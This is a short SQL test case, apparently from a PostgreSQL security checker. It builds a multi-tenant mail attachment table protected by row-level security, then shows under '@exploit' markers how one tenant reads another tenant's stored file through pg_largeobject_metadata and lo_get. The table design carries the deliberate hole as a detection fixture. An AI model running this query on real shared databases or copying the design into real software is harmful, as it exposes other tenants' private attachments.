-- title: attachments are large objects, which any tenant of the shared login can read
-- kind: hole
-- expect: C18
-- object: mail.attachment
-- logins: mail_app
-- proof: role=mail_app
create role mail_owner nologin;
create role mail_app login;
create schema mail authorization mail_owner;
grant usage on schema mail to mail_app;
set role mail_owner;
create table mail.attachment (
  tenant_id int not null,
  id uuid not null default gen_random_uuid(),
  file_name text not null,
  content oid not null,
  primary key (tenant_id, id)
);
alter table mail.attachment enable row level security;
alter table mail.attachment force row level security;
create policy attachment_tenant on mail.attachment using (tenant_id = (select nullif(current_setting('mail.tenant', true), '')::int));
grant select, insert, update, delete on mail.attachment to mail_app;
reset role;

-- @exploit
select set_config('mail.tenant', '2', true);
insert into mail.attachment (tenant_id, file_name, content) values (2, 'b', lo_from_bytea(0, 'secret of two'));
-- @exploit
select set_config('mail.tenant', '1', true);
select lo_get(m.oid) from pg_largeobject_metadata m;
